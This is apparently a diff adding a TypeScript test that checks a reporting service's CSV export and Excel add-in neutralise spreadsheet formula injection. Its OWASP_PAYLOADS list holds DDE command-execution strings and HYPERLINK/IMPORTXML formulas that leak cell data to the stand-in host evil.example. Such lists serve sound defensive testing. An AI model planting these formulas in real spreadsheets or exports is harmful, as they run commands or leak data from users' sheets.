@@ -1,0 +1,104 @@
+// Formula injection end to end: OWASP CSV-injection payloads submitted as a unit's report come back raw in the
+// /summary JSON (it is data, not a sheet), inert in the CSV export (every such cell starts with '), and inert when
+// the add-in's sheet writer puts the real /summary and /matrix answers into Excel (office-addin-mock harness).
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { Matrix, Summary, isFormulaLike, measuresFor } from '../../core/index.ts';
+import { writeSummarySheets, SUMMARY_SHEETS } from '../../addin/excel/index.ts';
+import { installExcel, uninstallExcel } from '../addin/excel-harness.ts';
+import { call, submit, supervisorToken, validSubmission } from './client.ts';
+
+const UNIT = 'v-banlie';
+const PERIOD = '2024-01-H2';
+/** OWASP "CSV Injection" examples plus the usual variants (tab, CR, DDE, HYPERLINK exfiltration). */
+export const OWASP_PAYLOADS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!E2",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  '\t=1+1',
+  '\r=1+1',
+  '=1+2";=1+2',
+];
+
+let summary: Summary;
+let matrix: Matrix;
+let csv: string;
+
+beforeAll(async () => {
+  const base = validSubmission(UNIT, PERIOD, OWASP_PAYLOADS[4]!);
+  const rows = measuresFor(UNIT);
+  expect(rows.length).toBeGreaterThan(0);
+  // Payloads ride in the free-text fields of every row (progress keeps its figures so the rules accept it).
+  const submission = {
+    ...base,
+    rows: base.rows.map((r, i) => ({
+      ...r,
+      progress: `${OWASP_PAYLOADS[i % OWASP_PAYLOADS.length]} 入户走访${20 + i}户`,
+      evidence: OWASP_PAYLOADS[(i + 1) % OWASP_PAYLOADS.length],
+      note: OWASP_PAYLOADS[(i + 2) % OWASP_PAYLOADS.length],
+    })),
+  };
+  const res = await submit(UNIT, submission);
+  expect(res.status, await res.clone().text()).toBe(201);
+  const auth = { token: supervisorToken() };
+  summary = Summary.parse(await (await call(`/summary?period=${PERIOD}`, auth)).json());
+  matrix = Matrix.parse(await (await call(`/matrix?from=${PERIOD}&to=${PERIOD}`, auth)).json());
+  const exported = await call(`/export.csv?period=${PERIOD}`, auth);
+  expect(exported.status).toBe(200);
+  csv = await exported.text();
+});
+
+afterAll(uninstallExcel);
+
+/** RFC 4180 reader (quoted fields, CRLF rows). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"' && cell === '') quoted = true;
+    else if (ch === ',') (row.push(cell), (cell = ''));
+    else if (ch === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
+    else cell += ch;
+  }
+  return rows;
+}
+
+describe('formula injection', () => {
+  it('keeps the raw text in the /summary JSON, which is data rather than a sheet', () => {
+    const mine = summary.units.find((u) => u.unitId === UNIT)!;
+    expect(mine.signer).toBe(OWASP_PAYLOADS[4]);
+  });
+
+  it('neutralises every payload in the CSV export with a leading apostrophe', () => {
+    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
+    expect(cells.filter((c) => isFormulaLike(c))).toEqual([]);
+    expect(cells).toContain(`'${OWASP_PAYLOADS[4]}`);
+    const n = measuresFor(UNIT).length;
+    const used = new Set(Array.from({ length: n }, (_, i) => [i, i + 1, i + 2].map((k) => OWASP_PAYLOADS[k % OWASP_PAYLOADS.length]!)).flat());
+    const inert = [...used].filter((p) => cells.some((c) => c === `'${p}` || c.startsWith(`'${p} 入户走访`)));
+    expect(inert.sort()).toEqual([...used].sort());
+  });
+
+  it('writes the real summary into Excel with no cell that Excel would run as a formula', async () => {
+    const h = installExcel({ active: 'Sheet1', sheets: { Sheet1: null } });
+    const names = await writeSummarySheets(summary, matrix);
+    expect(names).toEqual(Object.values(SUMMARY_SHEETS));
+    const written = names.flatMap((n) => h.writes(n).flatMap((w) => w.value.flat()));
+    expect(written.filter((v) => typeof v === 'string' && isFormulaLike(v))).toEqual([]);
+    expect(written).toContain(`'${OWASP_PAYLOADS[4]}`);
+  });
+});
